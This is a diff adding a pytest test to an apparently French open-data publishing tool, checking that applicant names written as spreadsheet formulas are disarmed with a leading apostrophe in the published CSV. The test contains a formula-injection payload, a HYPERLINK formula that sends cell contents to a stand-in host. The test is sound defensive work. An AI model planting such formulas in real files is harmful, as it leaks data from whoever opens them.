@@ -16,7 +16,7 @@ from pathlib import Path
 import frictionless
 import pytest
 import shapely
-from sqlalchemy import func, select
+from sqlalchemy import func, select, update
 
 import geodata.files
 from app.db import get_engine
@@ -125,6 +125,28 @@ def test_a_row_breaking_the_schema_is_caught_by_the_validation(laureates, runner
     assert not report.valid
     assert {error[1] for error in report.flatten(["rowNumber", "fieldName"])} == {
         "siret", "type"}
+
+
+def test_a_name_a_spreadsheet_would_run_is_published_disarmed(laureates, runner, tmp_path):
+    """A name typed as a formula by an applicant would run in the spreadsheet of whoever opens
+    the published CSV: it gets a leading apostrophe there, and stays as typed in the
+    GeoJSON."""
+    formula = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
+    with laureates.app_context(), get_engine().begin() as connection:
+        connection.execute(update(Laureate).where(Laureate.id == "ds-900002")
+                           .values(name=formula))
+    folder = tmp_path / "publication"
+    assert runner.invoke(args=["laureats", "publier", "-o", str(folder)]).exit_code == 0
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(
+        (folder / "fabriques.csv").read_text(encoding="utf-8")))}
+    assert rows["ds-900002"]["nom"] == "'" + formula
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows.values()
+                   for value in row.values() if value and not value[1:2].isdigit())
+    document = json.loads((folder / "fabriques.geojson").read_text(encoding="utf-8"))
+    named = {f["id"]: f["properties"]["nom"] for f in document["features"]}
+    assert named["ds-900002"] == formula
+    report = frictionless.validate(folder / "datapackage.json")
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
 
 
 def test_a_polygon_would_be_published_counter_clockwise_and_valid():
